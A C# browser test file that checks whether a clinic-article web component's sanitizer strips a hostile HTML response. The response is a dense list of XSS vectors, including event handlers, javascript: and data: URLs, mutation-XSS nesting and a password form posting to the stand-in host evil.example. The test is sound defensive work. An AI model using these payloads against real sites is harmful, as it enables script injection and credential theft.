namespace ClinicContent.Browser.Tests;

public sealed class HostileAnswerTests(Chromium chromium, Servers servers) : EmbedTest(chromium, servers)
{
    // As a library that somebody took over could answer. The page's policy is loose, so that nothing but the element's own list keeps it out.
    private const string Loose = "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:";

    private const string Answer200 = """
        <!doctype html>
        <html lang="en" onload="pwned()">
        <head><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
        <body class="cc-page" onload="pwned()" style="background:url(https://evil.example/body)">
        <main onclick="pwned()" style="position:fixed">
        <script>pwned()</script>
        <script src="https://evil.example/x.js"></script>
        <style>@import "https://evil.example/y.css"; :host { display: none }</style>
        <link rel="stylesheet" href="https://evil.example/z.css">
        <iframe src="https://evil.example/frame" srcdoc="<script>parent.pwned()</script>"></iframe>
        <object data="https://evil.example/o"></object><embed src="https://evil.example/e">
        <svg onload="pwned()"><script>pwned()</script><a href="javascript:pwned()"><text>x</text></a><style>p{}</style></svg>
        <form action="https://evil.example/" method="post"><input name="password"><button>Sign in</button></form>
        <template><img src=x onerror="pwned()"></template>
        <noscript><p title="</noscript><img src=x onerror=pwned()>">x</p></noscript>
        <clinic-article src="https://evil.example/health/x">nested</clinic-article>
        <div id="it" class="cc-note evil fallback" onmouseover="pwned()" style="color:red" contenteditable data-x="1" slot="x" part="x" tabindex="1" autofocus>
        <a id="a1" href="javascript:pwned()">1</a><a id="a2" href=" java&#10;script:pwned()">2</a><a id="a3" href="data:text/html,<script>pwned()</script>">3</a>
        <a id="a4" href="vbscript:x">4</a><a id="a5" href="https://user:secret@evil.example/">5</a><a id="a6" href="blob:https://evil.example/x">6</a><a id="a7" href="/kept" target="_top" ping="https://evil.example/ping" download>7</a>
        <img id="i1" src="https://evil.example/pixel.png" alt="a pixel" onerror="pwned()"><img id="i2" src="x:" onerror="pwned()" alt=""><img id="i3" src="data:image/svg+xml,<svg onload=pwned()>" srcset="https://evil.example/2x 2x">
        <video src="https://evil.example/v" poster="https://evil.example/p" autoplay></video><audio src="https://evil.example/a"></audio>
        </div>
        <p class="cc-disclaimer">Disclaimer</p>
        <math><mtext><table><mglyph><style><img src=x onerror="pwned()"></style></mglyph></table></mtext></math>
        </main>
        <script>pwned()</script>
        </body>
        </html>
        """;

    [FactIfInstalled(ExternalPrograms.Chromium)]
    public async Task Nothing_gets_in_but_what_an_article_is_made_of()
    {
        await using var page = await Open(Element(), policy: Loose, head: "<script>globalThis.pwned = () => { globalThis.isPwned = true }</script>", before: p => Answer(p, route =>
            route.FulfillAsync(new() { ContentType = "text/html", Headers = new Dictionary<string, string> { ["Access-Control-Allow-Origin"] = "*" }, Body = Answer200 })));
        Assert.Equal("load", (await Said(page)).GetProperty("what").GetString());
        await page.Page.Locator("clinic-article #a1").ClickAsync();
        await page.Page.WaitForTimeoutAsync(300);

        Assert.False(await page.Page.EvaluateAsync<bool>("() => globalThis.isPwned === true"));
        Assert.DoesNotContain(page.Requests, url => url.Contains("evil.example", StringComparison.Ordinal));
        string[] expected = ["section class dir lang part", "div class part", "div class id part", .. Enumerable.Range(1, 7).Select(i => i == 7 ? "a href id" : "a id"), "p class part"];
        var elements = await page.Page.EvaluateAsync<string[]>("() => [...it.shadowRoot.querySelectorAll('*')].map(e => [e.localName, ...e.getAttributeNames().sort()].join(' '))");
        Assert.Equal(expected, elements);
        Assert.Equal("cc-note", await page.Page.EvaluateAsync<string>("() => it.shadowRoot.querySelector('#it').className"));
        Assert.Equal($"{Servers.LibraryOrigin}/kept", await page.Page.EvaluateAsync<string>("() => it.shadowRoot.querySelector('#a7').getAttribute('href')"));
        Assert.Contains("a pixel", await page.Page.Locator("clinic-article .cc-note").TextContentAsync(), StringComparison.Ordinal);
        Assert.Empty(page.Errors);
    }

    [FactIfInstalled(ExternalPrograms.Chromium)]
    public async Task An_answer_that_leads_to_another_host_is_not_shown()
    {
        var elsewhere = Servers.Publish("<body class='cc-page'><main><p class='cc-disclaimer'>evil</p></main></body>");
        await using var page = await Open(Element(), before: p => Answer(p, route =>
            route.FulfillAsync(new() { Status = 302, Headers = new Dictionary<string, string> { ["Access-Control-Allow-Origin"] = "*", ["Location"] = elsewhere } })));

        Assert.Equal("error", (await Said(page)).GetProperty("what").GetString());
        Assert.DoesNotContain("evil", await page.Page.Locator("body").InnerTextAsync(), StringComparison.Ordinal);
    }
}
